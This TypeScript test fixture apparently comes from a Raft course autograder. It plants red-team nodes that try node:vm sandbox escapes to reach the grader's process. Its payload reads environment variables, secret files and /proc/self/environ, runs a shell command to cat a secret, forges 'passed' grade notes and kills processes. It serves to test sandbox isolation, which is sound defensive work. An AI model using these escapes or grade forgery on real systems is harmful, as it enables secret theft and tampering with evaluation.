/**
 * The red team: planted nodes that try to raise their own grade by getting
 * out of their sandbox, each a buggy Chapter 2 node (it keeps 26 of 30
 * points honestly) plus one family of tricks from the long public history
 * of escapes from node:vm. If a trick reached the grader's own `process`,
 * the payload below would read the environment and files it must not
 * (the base seed, the reference solutions, the secret the check plants),
 * forge "passed" notes where the launcher once read them, and end the test
 * process; what it read would show in the grade's output.
 *
 * The check (npm run planted) grades each one by hand and through the
 * Gradescope autograder, both isolated as every grade is: each must score
 * no more than the buggy node alone, leave no secret in what it prints, end
 * in time, and print exactly its pinned report; practice runs (node code in
 * the test process) must print the same report, so the tricks are shut
 * there too. The last case is handed its own process outright, as if it had
 * found a way out nobody knows of yet: grading gives it nothing to use.
 */

/** What the check plants for the red team to find: none of it may show in any output. */
export const SECRETS = {
  /** In the grader's environment. */
  environment: { name: "RAFT_CHECK_SECRET", value: "redteam-environment-3f9d2a" },
  /** A file beside the reference solution. */
  file: { path: "solutions/chapter2-request-vote/SECRET.txt", text: "redteam-file-8c1e07" },
  /** The instructor's base seed of the red team's grades. */
  seedBase: "redteam-base-5b7d44",
} as const;

export { CHECK_HANDS_NODE_ITS_PROCESS } from "../../sandbox/node-process.ts";

const TOP = "export const createNode";
/** Where the payload goes in any node.ts (before its createNode). */
export const RED_TEAM_TOP = TOP;
const START = '  start(): void {\n    this.role = "follower";\n';
const RECEIVE = "  receive(from: NodeId, message: Message): void {\n";
const INSPECT = "  inspect(): NodeView {\n    return {\n";

/**
 * What every trick does with what it finds: try each thing as a way to the
 * grader's `process` (a function constructor of the host's realm compiles
 * code there), and use whatever it gets.
 */
const PAYLOAD = String.raw`// --- red team: what this node would do with the grader's process ---
declare const hasOwnProperty: unknown, toString: unknown, valueOf: unknown, propertyIsEnumerable: unknown, isPrototypeOf: unknown, toLocaleString: unknown;
const leaked: string[] = [];
/** Each trick is tried once per test (a module is fresh for every test): once is all it takes. */
const tried = new Set<string>();
function once(what: string): boolean {
  if (tried.has(what)) return false;
  tried.add(what);
  return true;
}
function usePower(proc: any): void {
  if (proc === null || typeof proc !== "object" || typeof proc.pid !== "number") return;
  try { leaked.push("env " + JSON.stringify(proc.env)); } catch (e) { leaked.push("no env"); }
  let fs: any;
  try { fs = typeof proc.getBuiltinModule === "function" ? proc.getBuiltinModule("node:fs") : proc.mainModule.require("node:fs"); } catch (e) { fs = undefined; }
  if (fs) {
    for (const file of ["solutions/chapter2-request-vote/SECRET.txt", "../solutions/chapter2-request-vote/SECRET.txt", "../../solutions/chapter2-request-vote/SECRET.txt", "/proc/self/environ"]) {
      try { leaked.push(file + " " + fs.readFileSync(file, "utf8")); } catch (e) { leaked.push(file + " unread"); }
    }
    try { leaked.push("solutions: " + fs.readdirSync("solutions").join(",")); } catch (e) { leaked.push("solutions unlisted"); }
    // Notes that every test passed, where the launcher used to read them.
    try {
      const dir = proc.env.RAFT_PROGRESS_DIR;
      for (const name of fs.readdirSync("tests")) {
        if (!name.endsWith(".test.ts")) continue;
        const source = fs.readFileSync("tests/" + name, "utf8");
        for (const m of source.matchAll(/graded\((\d+), "([^"]+)"/g)) {
          fs.appendFileSync(dir + "/" + name.replace(".test.ts", ".jsonl"), JSON.stringify({ event: "end", test: m[2], points: Number(m[1]), state: "passed" }) + "\n");
        }
      }
    } catch (e) { leaked.push("no progress notes"); }
  }
  // Another process to do it, a thread, native code.
  try { leaked.push("shell " + proc.getBuiltinModule("node:child_process").execSync("cat solutions/chapter2-request-vote/SECRET.txt; env", { encoding: "utf8" })); } catch (e) { leaked.push("no shell"); }
  try { new (proc.getBuiltinModule("node:worker_threads").Worker)("process.exit(0)", { eval: true }); leaked.push("a thread"); } catch (e) { leaked.push("no thread"); }
  try { proc.dlopen({ exports: {} }, "/usr/lib/x86_64-linux-gnu/libc.so.6"); leaked.push("native code"); } catch (e) { leaked.push("no native code"); }
  try { console.log("LEAK " + leaked.join(" | ")); } catch (e) {}
  // Raw bytes where the world reads answers, signals to every process it can name, then the end.
  try { fs.writeSync(1, "LEAK " + leaked.join(" | ") + "\n"); } catch (e) {}
  try { proc.kill(0, "SIGKILL"); } catch (e) {}
  try { proc.kill(proc.ppid, "SIGKILL"); } catch (e) {}
  try { proc.exit(0); } catch (e) {}
}
function viaConstructor(candidate: unknown): void {
  try {
    const F = candidate as ((code: string) => () => unknown) & { name?: unknown };
    // Only a function constructor compiles code (calling any other function found, Date.now say, proves nothing).
    if (typeof F !== "function" || typeof F.name !== "string" || !/Function$/.test(F.name)) return;
    usePower(F("return process")());
  } catch (e) {
    // shut
  }
}
function everyWayFrom(value: unknown, depth = 0): void {
  if (depth > 3 || value === null || (typeof value !== "object" && typeof value !== "function")) return;
  try { viaConstructor((value as any).constructor?.constructor); } catch (e) {}
  try { viaConstructor((value as any).constructor); } catch (e) {}
  try { everyWayFrom(Object.getPrototypeOf(value), depth + 1); } catch (e) {}
  try { for (const key of Reflect.ownKeys(value as object)) { const d = Object.getOwnPropertyDescriptor(value, key); if (d) { everyWayFrom(d.value, depth + 1); everyWayFrom(d.get, depth + 1); } } } catch (e) {}
}
// --- end of the red team's payload ---

`;

export interface RedTeamCase {
  readonly name: string;
  readonly what: string;
  /** Edits to the buggy Chapter 2 node, besides the payload. */
  readonly edits: readonly (readonly [find: string, replace: string])[];
  /** Practice runs hand nothing over: this case's practice report is the buggy node's own. */
  readonly handedItsProcess?: boolean;
}

export const RED_TEAM: readonly RedTeamCase[] = [
  {
    name: "escape-global-object",
    what: "globalThis.constructor.constructor(\"return process\")(), the route that once gave full marks, and every constructor up the global object's prototypes",
    edits: [[START, `${START}    if (once("start")) {\n    everyWayFrom(globalThis);\n    viaConstructor((globalThis as any).constructor.constructor);\n    viaConstructor((this as any).constructor.constructor);\n    }\n`]],
  },
  {
    name: "escape-bare-names",
    what: "the global object reached by bare names: hasOwnProperty, toString, valueOf and the other Object.prototype methods",
    edits: [[START, `${START}    if (once("start")) for (const f of [hasOwnProperty, toString, valueOf, propertyIsEnumerable, isPrototypeOf, toLocaleString]) { try { viaConstructor((f as any).constructor); everyWayFrom(f); } catch (e) {} }\n`]],
  },
  {
    name: "escape-what-the-world-hands",
    what: "every object the node is handed (env, its methods, timing, peers, the saved state, each message and its entries, errors env throws) and their constructor chains",
    edits: [
      [START, `${START}    if (once("start")) { everyWayFrom(this.env); everyWayFrom(this.env.timing); everyWayFrom(this.env.peers); everyWayFrom(this.env.send); everyWayFrom(this.log);\n    try { this.env.send("Z" as NodeId, { type: "Nonsense" } as never); } catch (e) { everyWayFrom(e); }\n    try { this.env.setTimer("nope" as TimerName, 1); } catch (e) { everyWayFrom(e); }\n    try { this.env.randomInt(NaN, 1); } catch (e) { everyWayFrom(e); } }\n`],
      [RECEIVE, `${RECEIVE}    if (once(message.type)) { everyWayFrom(message); everyWayFrom(from); }\n`],
    ],
  },
  {
    name: "escape-host-errors",
    what: "errors the host makes: a stack overflow raised inside env.note, console.log, a refused global and env.send, caught at the edge of the stack",
    edits: [
      [
        START,
        `${START}    const atTheEdge = (act: () => void): unknown => { const dive = (n: number): unknown => { try { return dive(n + 1); } catch (outer) { try { act(); } catch (inner) { return inner; } return outer; } }; return dive(0); };\n` +
          `    if (once("start")) for (const act of [() => this.env.note("x"), () => console.log("x"), () => Math.random(), () => this.env.send(this.env.peers[0]!, { type: "RequestVoteReply", term: 0, voteGranted: false }), () => this.env.setTimer("election", 1000)]) { try { everyWayFrom(atTheEdge(act)); } catch (e) {} }\n`,
      ],
    ],
  },
  {
    name: "escape-function-constructors",
    what: "Function.prototype and the constructors of arrow, async, generator and bound functions, and of classes",
    edits: [
      [
        START,
        `${START}    if (once("start")) for (const f of [Function.prototype, () => 0, async () => 0, function* () { yield 0; }, async function* () { yield 0; }, (() => 0).bind(null), class {}]) { try { viaConstructor((f as any).constructor); everyWayFrom(f); } catch (e) {} }\n    try { viaConstructor(Reflect.getPrototypeOf(Function)?.constructor); } catch (e) {}\n`,
      ],
    ],
  },
  {
    name: "escape-species-proxies-getters",
    what: "a log whose Symbol.species is the node's, a view that is a Proxy, entries whose traps and getters catch every argument the world passes them",
    edits: [
      [TOP, `const caught: unknown[] = [];\nlet looked = 0;\nconst trap = (target: object): object => new Proxy(target, { get(t, k, r) { caught.push(k, r); return Reflect.get(t, k); }, getOwnPropertyDescriptor(t, k) { caught.push(k); return Reflect.getOwnPropertyDescriptor(t, k); }, defineProperty(t, k, d) { caught.push(k, d); everyWayFrom(d); return Reflect.defineProperty(t, k, d); }, ownKeys(t) { return Reflect.ownKeys(t); }, preventExtensions(t) { return Reflect.preventExtensions(t); }, has(t, k) { caught.push(k); return Reflect.has(t, k); } });\n${TOP}`],
      [
        INSPECT,
        `  inspect(): NodeView {\n    for (const c of caught.splice(0)) if (looked++ < 300) everyWayFrom(c);\n    if (this.log.length === 0) this.log.push(trap({ term: 0, command: "trap" }) as LogEntry);\n    (this.log as any).constructor = { [Symbol.species]: function (this: unknown, ...args: unknown[]) { everyWayFrom(this); for (const a of args) everyWayFrom(a); return []; } };\n    return trap({ get role() { everyWayFrom(this); return "follower"; },\n`,
      ],
      ["      commitIndex: this.commitIndex,\n      lastApplied: this.lastApplied,\n    };\n  }", "      commitIndex: this.commitIndex,\n      lastApplied: this.lastApplied,\n    }) as NodeView;\n  }"],
      ["      role: this.role,\n      currentTerm: this.currentTerm,", "      currentTerm: this.currentTerm,"],
    ],
  },
  {
    name: "escape-promise-jobs",
    what: "promise jobs and async code that outlive the call and the test: a 20 s busy job, a dynamic import(), an unhandled rejection",
    edits: [
      [
        START,
        `${START}    Promise.resolve().then(() => { const until = this.env.now() + 1; let n = 0; while (n < 4e10 || until < 0) n++; everyWayFrom(globalThis); });\n    (async () => { await null; everyWayFrom(globalThis); })();\n    try { (import("node:fs") as Promise<unknown>).then((fs) => everyWayFrom(fs), (e) => everyWayFrom(e)); } catch (e) { everyWayFrom(e); }\n    Promise.reject(new Error("left unhandled"));\n`,
      ],
    ],
  },
  {
    name: "escape-prepare-stack-trace",
    what: "Error.prepareStackTrace, on Error and on a replaced global Error, to catch call sites of the host's frames, with a rejection reported after the test",
    edits: [
      [
        START,
        `${START}    const grab = (_e: unknown, sites: any[]): string => { for (const s of sites ?? []) { try { everyWayFrom(s.getThis?.()); everyWayFrom(s.getFunction?.()); } catch (e) {} } return "grabbed"; };\n    try { (Error as any).prepareStackTrace = grab; } catch (e) {}\n    try { (globalThis as any).Error = Object.assign(function Error() {}, { prepareStackTrace: grab }); } catch (e) {}\n    try { void new RangeError("x").stack; } catch (e) {}\n    Promise.reject(new TypeError("reported after the test"));\n`,
      ],
    ],
  },
  {
    name: "escape-huge-strings",
    what: "a view and a message whose fields have a toString and a toJSON of hundreds of megabytes",
    edits: [
      [TOP, `const huge = { toString: () => "x".repeat(2 ** 28), toJSON: () => "y".repeat(2 ** 28) };\n${TOP}`],
      [START, `${START}    if (this.env.id === "B") this.env.send("A", { type: "RequestVoteReply", term: huge, voteGranted: false } as never);\n`],
      ["      votedFor: this.votedFor,\n      leaderId: this.leaderId,\n      log: this.log,", "      votedFor: this.votedFor,\n      leaderId: this.leaderId,\n      log: this.log,\n      ...(this.currentTerm > 2 ? { commitIndex: huge } : {}),"],
    ],
  },
  {
    name: "escape-forged-stack-frame",
    what: "an error whose stack names lines of other files (the planted secret, the test harness, the reference), and a frame line that only mentions node.ts",
    edits: [
      [
        START,
        `${START}    if (this.env.id === "E") { const e = new Error("forged"); e.stack = "Error: forged\\n    at secret (solutions/chapter2-request-vote/SECRET.txt:1:1)\\n    at harness (tests/harness/graded.ts:1:1)\\n    at reference (solutions/chapter7-hostile-network/node.ts:1:1)\\n    at x (solutions/chapter2-request-vote/SECRET.txt:1:1) chapters/chapter2-request-vote/node.ts:1:1"; throw e; }\n`,
      ],
    ],
  },
  {
    name: "escape-blocking-wait",
    what: "a handler that blocks for 20 s in Atomics.wait, a wait no promise or timer is needed for",
    edits: [[START, `${START}    if (this.env.id === "C" && this.env.peers.length === 4) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20_000);\n`]],
  },
  {
    name: "escape-with-its-process",
    what: "a node handed its own process outright (as if it had found a way out of node:vm nobody knows yet), which then does everything above",
    edits: [[START, `${START}    usePower((globalThis as any).handedOver);\n`]],
    handedItsProcess: true,
  },
];

/** The payload, for a planted node of another chapter. */
export function redTeamPayload(): string {
  return PAYLOAD;
}

/** A red-team case's node.ts edits: the payload at the top, then its own. */
export function redTeamEdits(redTeam: RedTeamCase): readonly (readonly [string, string])[] {
  return [[TOP, `${PAYLOAD}${TOP}`], ...redTeam.edits];
}
